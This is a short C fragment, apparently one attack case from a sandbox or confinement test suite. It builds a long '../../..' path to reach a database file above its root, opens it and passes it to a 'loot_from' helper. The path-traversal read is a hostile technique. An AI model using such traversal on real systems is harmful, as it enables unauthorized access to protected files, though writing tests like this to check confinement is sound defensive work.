/* Looks for the database above its root. */
#include "../attack.h"

static void attack(void) {
    char path[600];
    snprintf(path, sizeof path, "../../../../../../../../../..%s", target("database"));
    loot_from(open(path, O_RDONLY));
}
